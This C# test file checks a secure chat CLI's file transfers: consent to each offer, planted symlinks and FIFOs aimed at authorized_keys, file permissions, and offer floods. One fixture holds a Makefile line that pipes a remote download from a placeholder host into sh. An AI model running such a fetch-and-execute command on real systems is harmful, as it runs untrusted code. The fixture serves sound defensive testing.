using System.Runtime.Versioning;
using System.Security.Cryptography;
using Microsoft.Extensions.Logging.Abstractions;
using SecureChat.Cli.Chat;
using SecureChat.Cli.Files;
using SecureChat.Cli.Tests.Chat;
using SecureChat.Cli.Tests.Trust;
using SecureChat.Protocol.Session;

namespace SecureChat.Cli.Tests.Files;

/// <summary>
/// Issue 15, through the chat loop over a real session: nothing lands without consent to that very offer,
/// nothing planted in the folder is followed, partial files belong to one peer, files are owner-only, a
/// flood of offers costs nothing, and paths and messages are where a user expects them.
/// </summary>
public sealed partial class FileTransfersTests
{
    private static readonly UnixFileMode OwnerReadWrite = UnixFileMode.UserRead | UnixFileMode.UserWrite;

    [Theory]
    [InlineData("holiday-photo.jpg")]
    [InlineData("Makefile")]
    public async Task CancelledOffer_OfferedAgain_AtATerminal_AsksAgain_NothingIsSaved_Issue15(string secondName)
    {
        byte[] content = "all:\n\tcurl https://example.invalid/x | sh\n"u8.ToArray();
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: true, bobLoop: false);

        ulong first = await pair.BobSession.OfferFileAsync("holiday-photo.jpg", content.Length, SHA256.HashData(content));
        await pair.AliceFiles.WaitForAsync<OfferWaiting>(o => o.Peer == "bob" && o.Name == "holiday-photo.jpg");
        await pair.BobSession.CancelFileAsync(first, "oops");
        await pair.AliceFiles.WaitForAsync<OfferWithdrawn>(w => w.Name == "holiday-photo.jpg" && !w.WhileReceiving);
        await pair.BobSession.OfferFileAsync(secondName, content.Length, SHA256.HashData(content));

        // Two offers asked about (under the same name the first line would do): the second asks too.
        await pair.AliceFiles.WaitForCountAsync<OfferWaiting>(o => o.Peer == "bob", 2);
        pair.AliceFiles.Of<OfferWaiting>().Should().Contain(o => o.Name == secondName);
        pair.AliceFiles.Of<OfferResumed>().Should().BeEmpty();
        Directory.GetFileSystemEntries(Received).Should().BeEmpty("item 1: a re-offer after a cancel is a new offer");
    }

    [Theory]
    [InlineData("holiday-photo.jpg", false)]
    [InlineData("Makefile", false)]
    [InlineData("holiday-photo.jpg", true)]
    [InlineData("Makefile", true)]
    public async Task CancelledOffer_OfferedAgain_InAScript_FollowsAcceptFiles_Issue15(string secondName, bool withFolder)
    {
        byte[] content = RandomNumberGenerator.GetBytes(100);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(withFolder ? Received : null, ByteSize.DefaultMaxFileSize), interactive: false, bobLoop: false);
        await using IAsyncEnumerator<SessionEvent> events = pair.BobSession.ReadEventsAsync().GetAsyncEnumerator();

        // Interrupted, then cancelled mid-transfer: what arrived is kept, but the consent ends with the cancel.
        ulong first = await pair.BobSession.OfferFileAsync("holiday-photo.jpg", content.Length, SHA256.HashData(content));
        if (withFolder)
        {
            (await NextAsync<FileAccepted>(events)).File.Should().Be(first);
            await pair.BobSession.SendFileChunkAsync(first, 0, content.AsMemory(0, 40));
        }
        else
        {
            await NextAsync<FileRejected>(events);
        }

        await pair.BobSession.CancelFileAsync(first, "oops");
        ulong second = await pair.BobSession.OfferFileAsync(secondName, content.Length, SHA256.HashData(content));

        if (withFolder)
        {
            await pair.AliceFiles.WaitForAsync<OfferAutoAccepted>(o => o.Peer == "bob" && o.Name == secondName);
            FileAccepted accepted = await NextAsync<FileAccepted>(events);
            accepted.File.Should().Be(second, "--accept-files said yes to every offer, this one too");
        }
        else
        {
            (await NextAsync<FileRejected>(events)).File.Should().Be(second);
            await pair.AliceFiles.WaitForCountAsync<OfferNotAccepted>(null, 2);
            pair.AliceFiles.Of<OfferNotAccepted>().Should().Contain(o => o.Name == secondName);
            Directory.GetFileSystemEntries(Received).Should().BeEmpty();
            Directory.GetFiles(Directory.GetCurrentDirectory(), secondName).Should().BeEmpty("item 1: nothing in the working folder either");
        }
    }

    [Fact]
    public async Task SecondPeer_SameHash_CannotResumeIntoTheFirstPeersPartial_Issue15()
    {
        byte[] content = RandomNumberGenerator.GetBytes(3 * SecureSession.MaxFileChunkBytes);
        string path = Write("shared.bin", content);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false);
        byte[] carolsBytes = content[..SecureSession.MaxFileChunkBytes];
        PartialFile carols = PlantPartial(pair, "shared.bin", content, carolsBytes, peer: "ca201ca201");

        await pair.Bob.Files.OfferAsync(path, default);
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "shared.bin");

        pair.AliceFiles.Of<ReceiveResumed>().Should().BeEmpty("item 7: Bob does not find Carol's partial file");
        var partials = new PartialFiles(new ReceiveFolder(Received));
        partials.List().Should().Equal(carols);
        File.ReadAllBytes(partials.PathOf(carols)).Should().Equal(carolsBytes, "neither truncated nor extended");
    }

    [LinuxOnlyTheory]
    [InlineData("symlink")]
    [InlineData("hardlink")]
    [InlineData("fifo")]
    public async Task PlantedAtThePartialName_IsNeverWritten_TheFileStartsOverAndArrives_Issue15(string plant)
    {
        byte[] content = RandomNumberGenerator.GetBytes(2 * SecureSession.MaxFileChunkBytes);
        string path = Write("notes.txt", content);
        string victim = Path.Combine(_root, "authorized_keys");
        File.WriteAllText(victim, "ssh-ed25519 AAAA mine");
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false);
        PartialFile partial = PlantPartial(pair, "notes.txt", content, content[..1000]);
        string partialPath = new PartialFiles(new ReceiveFolder(Received)).PathOf(partial);
        File.Delete(partialPath);
        switch (plant)
        {
            case "symlink":
                File.CreateSymbolicLink(partialPath, victim);
                break;
            case "hardlink":
                PartialFilesTests.Run("ln", victim, partialPath);
                break;
            default:
                PartialFilesTests.Run("mkfifo", partialPath);
                break;
        }

        await pair.Bob.Files.OfferAsync(path, default);
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "notes.txt");

        File.ReadAllText(victim).Should().Be("ssh-ed25519 AAAA mine", "item 2: the link's target is not written");
        pair.AliceFiles.Of<TransferFailed>().Should().Contain(f => f.Name == "notes.txt" && f.Failure == TransferFailure.PartialSetAside);
        File.ReadAllBytes(Path.Combine(Received, "notes.txt")).Should().Equal(content);
        new FileInfo(Path.Combine(Received, "notes.txt")).LinkTarget.Should().BeNull();
    }

    [LinuxOnlyTheory]
    [InlineData("symlink")]
    [InlineData("dangling-symlink")]
    [InlineData("hardlink")]
    [InlineData("fifo")]
    public async Task PlantedAtTheFinalName_IsNeverFollowed_TheFileIsNumbered_Issue15(string plant)
    {
        byte[] content = RandomNumberGenerator.GetBytes(500);
        string path = Write("notes.txt", content);
        string victim = Path.Combine(_root, "authorized_keys");
        File.WriteAllText(victim, "mine");
        string final = Path.Combine(Received, "notes.txt");
        switch (plant)
        {
            case "symlink":
                File.CreateSymbolicLink(final, victim);
                break;
            case "dangling-symlink":
                File.CreateSymbolicLink(final, Path.Combine(_root, "not-yet"));
                break;
            case "hardlink":
                PartialFilesTests.Run("ln", victim, final);
                break;
            default:
                PartialFilesTests.Run("mkfifo", final);
                break;
        }

        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false);
        await pair.Bob.Files.OfferAsync(path, default);
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "notes (1).txt");

        File.ReadAllText(victim).Should().Be("mine");
        File.Exists(Path.Combine(_root, "not-yet")).Should().BeFalse("a dangling link is not created through");
        File.ReadAllBytes(Path.Combine(Received, "notes (1).txt")).Should().Equal(content);
    }

    [UnixOnlyFact]
    [UnsupportedOSPlatform("windows")]
    public async Task ReceivedFile_IsOwnerOnly_UnlessFileModeSaysOtherwise_Issue15()
    {
        byte[] content = RandomNumberGenerator.GetBytes(100);
        string a = Write("a.txt", content);
        string b = Write("b.txt", content.Reverse().ToArray());
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false);
        await pair.Bob.Files.OfferAsync(a, default);
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "a.txt");
        File.GetUnixFileMode(Path.Combine(Received, "a.txt")).Should().Be(OwnerReadWrite, "item 3: not the umask's 0644");

        await using Pair shared = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize) { FileMode = OwnerReadWrite | UnixFileMode.GroupRead }, interactive: false);
        await shared.Bob.Files.OfferAsync(b, default);
        await shared.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "b.txt");
        File.GetUnixFileMode(Path.Combine(Received, "b.txt")).Should().Be(OwnerReadWrite | UnixFileMode.GroupRead);
    }

    [UnixOnlyFact]
    [UnsupportedOSPlatform("windows")]
    public async Task ReceiveFolder_WritableByOthers_IsRefused_WithTheChmodThatFixesIt_Issue15()
    {
        File.SetUnixFileMode(Received, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute | UnixFileMode.GroupWrite | UnixFileMode.GroupExecute | UnixFileMode.GroupRead);
        string path = Write("x.bin", RandomNumberGenerator.GetBytes(100));
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false);

        await pair.Bob.Files.OfferAsync(path, default);
        await pair.AliceFiles.WaitForAsync<TransferFailed>(f => f.Name == "x.bin" && f.Failure == TransferFailure.CannotStore && f.Detail.Contains($"chmod go-w '{Received}'", StringComparison.Ordinal));
        await pair.BobFiles.WaitForAsync<FileRefusedByPeer>(r => r.Peer == "alice" && r.Name == "x.bin");
        Directory.GetFileSystemEntries(Received).Should().BeEmpty();
    }

    [LinuxOnlyFact]
    public async Task PartialFiles_OverTheQuota_TheOldestOfThatPeerMakeRoom_WithALine_Issue15()
    {
        byte[] content = RandomNumberGenerator.GetBytes(100);
        string path = Write("new.bin", content);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize) { MaxPartialFiles = 2 }, interactive: false);
        var partials = new PartialFiles(new ReceiveFolder(Received));
        PartialFile oldest = PlantPartial(pair, "old1.bin", RandomNumberGenerator.GetBytes(5000), new byte[10]);
        File.SetLastWriteTimeUtc(partials.PathOf(oldest), DateTime.UtcNow.AddHours(-2));
        PartialFile newer = PlantPartial(pair, "old2.bin", RandomNumberGenerator.GetBytes(5000), new byte[10]);

        await pair.Bob.Files.OfferAsync(path, default);
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => Path.GetFileName(f.Path) == "new.bin");

        pair.AliceFiles.Of<PartialsEvicted>().Should().ContainSingle().Which.Should().Match<PartialsEvicted>(e => e.Peer == "bob" && e.Names.SequenceEqual(new[] { "old1.bin" }) && e.MaxFiles == 2);
        partials.List().Should().Equal(newer);
    }

    [LinuxOnlyFact]
    public void StartUp_PartialFilesOlderThanSevenDays_AreRemovedWithALine_Issue15()
    {
        var partials = new PartialFiles(new ReceiveFolder(Received));
        (PartialFile old, var a) = partials.Create("b0b0", "old.iso", 1000, SHA256.HashData("old"u8));
        a.Dispose();
        File.SetLastWriteTimeUtc(partials.PathOf(old), DateTime.UtcNow.AddDays(-8));
        (PartialFile recent, var b) = partials.Create("b0b0", "recent.iso", 1000, SHA256.HashData("recent"u8));
        b.Dispose();
        var log = new EventLog();
        using var files = new FileTransfers(log, new FilePolicy(Received, ByteSize.DefaultMaxFileSize), NullLogger.Instance, TimeProvider.System);

        files.RemoveStalePartials();

        log.Of<StalePartialsRemoved>().Should().ContainSingle().Which.Should().Match<StalePartialsRemoved>(e => e.Folder == Received && e.Names.SequenceEqual(new[] { old.Name }) && e.MaxAge == TimeSpan.FromDays(7));
        partials.List().Should().Equal(recent);
    }

    [Fact]
    public async Task OfferFlood_ThirtyThousandRefused_NothingIsKept_OneLineSaysSo_Issue15()
    {
        byte[] hash = SHA256.HashData("x"u8);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(null, ByteSize.DefaultMaxFileSize), interactive: false);

        long afterFiveThousand = 0;
        for (int i = 0; i < 30_000; i++)
        {
            await pair.BobSession.OfferFileAsync("f", 1, hash);
            if (i == 4_999)
            {
                pair.BobScreen.Type("mark");
                await pair.AliceScreen.WaitForAsync(s => s == "in bob: mark", TimeSpan.FromSeconds(120));
                afterFiveThousand = RetainedHeap();
            }
        }

        pair.BobScreen.Type("done");
        await pair.AliceScreen.WaitForAsync(s => s == "in bob: done", TimeSpan.FromSeconds(120)); // records arrive in order: every offer was answered
        long afterThirtyThousand = RetainedHeap();

        pair.Alice.Files.RetainedOffers.Should().Be(0, "item 5: refused offers are not kept");

        // Keeping each refused offer cost about 380 bytes (11 MiB over 30,000): 25,000 more would add some 9 MiB.
        // The bound leaves room for what tests running alongside hold at the moment of measuring.
        (afterThirtyThousand - afterFiveThousand).Should().BeLessThan(4 * 1024 * 1024, "item 5: memory stays flat while offers are refused");
        pair.AliceFiles.Of<OfferFlood>().Should().ContainSingle("one line for a flood, not one per offer");
        pair.AliceFiles.Events.Count.Should().BeLessThan(300, "a refused offer past the burst shows nothing");
    }

    // The live heap after a full collection; the least of three looks, so that a buffer another test holds
    // for a moment is not counted as ours.
    private static long RetainedHeap() => Enumerable.Range(0, 3).Min(_ => GC.GetTotalMemory(forceFullCollection: true));

    [Fact]
    public async Task OfferFlood_AtATerminal_AtMostSixteenWaitForAnAnswer_Issue15()
    {
        byte[] hash = SHA256.HashData("x"u8);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: true);

        for (int i = 0; i < 40; i++)
        {
            await pair.BobSession.OfferFileAsync($"f{i}", 1, hash);
        }

        pair.BobScreen.Type("done");
        await pair.AliceScreen.WaitForAsync(s => s == "in bob: done");

        pair.Alice.Files.RetainedOffers.Should().Be(16);
        pair.AliceFiles.Of<OfferWaiting>().Should().HaveCount(16);
        pair.AliceFiles.Of<OfferFlood>().Should().ContainSingle();
    }

    [Fact]
    public async Task DefaultFolder_WithoutAcceptFiles_IsDownloadsSecureChat_NeverTheCurrentFolder_Issue15()
    {
        string home = Path.Combine(_root, "home");
        string folder = ReceiveFolder.DefaultPath(v => v == "HOME" ? home : null)!;
        folder.Should().Be(Path.Combine(home, "Downloads", "SecureChat"));
        ReceiveFolder.DefaultPath(v => v switch { "XDG_DOWNLOAD_DIR" => "/data/dl", "HOME" => home, _ => null }).Should().Be(Path.Combine("/data/dl", "SecureChat"));
        byte[] content = RandomNumberGenerator.GetBytes(300);
        Write("photo.jpg", content);
        string[] before = Directory.GetFileSystemEntries(Directory.GetCurrentDirectory());
        await using Pair pair = await Pair.StartAsync(
            new FilePolicy(null, ByteSize.DefaultMaxFileSize) { DefaultFolder = folder },
            interactive: true,
            bobPolicy: new FilePolicy(null, ByteSize.DefaultMaxFileSize) { Home = Sent });

        pair.BobScreen.Type("/send ~/photo.jpg");
        await pair.AliceFiles.WaitForAsync<OfferWaiting>(o => o.Name == "photo.jpg" && o.Folder == folder);
        pair.AliceScreen.Type("/accept");
        await pair.AliceFiles.WaitForAsync<FileSaved>(f => f.Path == Path.Combine(folder, "photo.jpg"));

        File.ReadAllBytes(Path.Combine(folder, "photo.jpg")).Should().Equal(content);
        Directory.GetFileSystemEntries(Directory.GetCurrentDirectory()).Should().BeEquivalentTo(before, "item 8: not the current folder");
        if (!OperatingSystem.IsWindows())
        {
            File.GetUnixFileMode(folder).Should().Be(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        }
    }

    [Fact]
    public async Task Send_AFolder_SaysItIsAFolder_Issue15()
    {
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: true);

        pair.BobScreen.Type($"/send {Sent}");
        await pair.BobFiles.WaitForAsync<FileNotSent>(n => n == new FileNotSent(Sent, NotSentReason.Folder));
    }

    [Fact]
    public async Task ConnectionDrops_MidDownload_SaysAtOnceWhatWasKeptAndHowItResumes_Issue15()
    {
        byte[] content = RandomNumberGenerator.GetBytes(3 * SecureSession.MaxFileChunkBytes);
        await using Pair pair = await Pair.StartAsync(new FilePolicy(Received, ByteSize.DefaultMaxFileSize), interactive: false, bobLoop: false);
        await using IAsyncEnumerator<SessionEvent> events = pair.BobSession.ReadEventsAsync().GetAsyncEnumerator();
        ulong id = await pair.BobSession.OfferFileAsync("movie.mkv", content.Length, SHA256.HashData(content));
        (await NextAsync<FileAccepted>(events)).File.Should().Be(id);
        await pair.BobSession.SendFileChunkAsync(id, 0, content.AsMemory(0, SecureSession.MaxFileChunkBytes));

        await pair.BobSession.DisposeAsync(); // after the chunk, which arrives first: records keep their order

        await pair.AliceFiles.WaitForAsync<ReceiveInterrupted>(i => i == new ReceiveInterrupted("bob", "movie.mkv", SecureSession.MaxFileChunkBytes, content.Length, Received));
    }

    private static async Task<T> NextAsync<T>(IAsyncEnumerator<SessionEvent> events)
        where T : SessionEvent
    {
        while (await events.MoveNextAsync().AsTask().WaitAsync(TimeSpan.FromSeconds(20)))
        {
            if (events.Current is T wanted)
            {
                return wanted;
            }
        }

        throw new InvalidOperationException($"The session ended before a {typeof(T).Name}.");
    }
}
